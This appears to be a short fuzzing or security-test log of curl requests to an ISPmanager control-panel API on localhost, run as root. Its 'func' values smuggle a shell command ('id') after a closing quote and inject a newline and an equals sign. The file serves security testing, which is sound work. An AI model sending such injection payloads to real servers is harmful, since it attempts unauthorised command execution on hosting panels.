# Jun 25 09:07:51 root, x%27%3Bid%3B%20%23, changes data
printf %s "$MGR_AUTHINFO" | curl -sS --insecure --data-urlencode authinfo@- --data-raw 'func=x%27%3Bid%3B%20%23&elid=1&sok=ok&out=json' https://localhost:1500/ispmgr
# Jun 25 09:07:51 root, a%0Ab, changes data
printf %s "$MGR_AUTHINFO" | curl -sS --insecure --data-urlencode authinfo@- --data-raw 'func=a%0Ab&elid=1&sok=ok&out=json' https://localhost:1500/ispmgr
# Jun 25 09:07:51 root, a%3Db, changes data
printf %s "$MGR_AUTHINFO" | curl -sS --insecure --data-urlencode authinfo@- --data-raw 'func=a%3Db&elid=1&sok=ok&out=json' https://localhost:1500/ispmgr
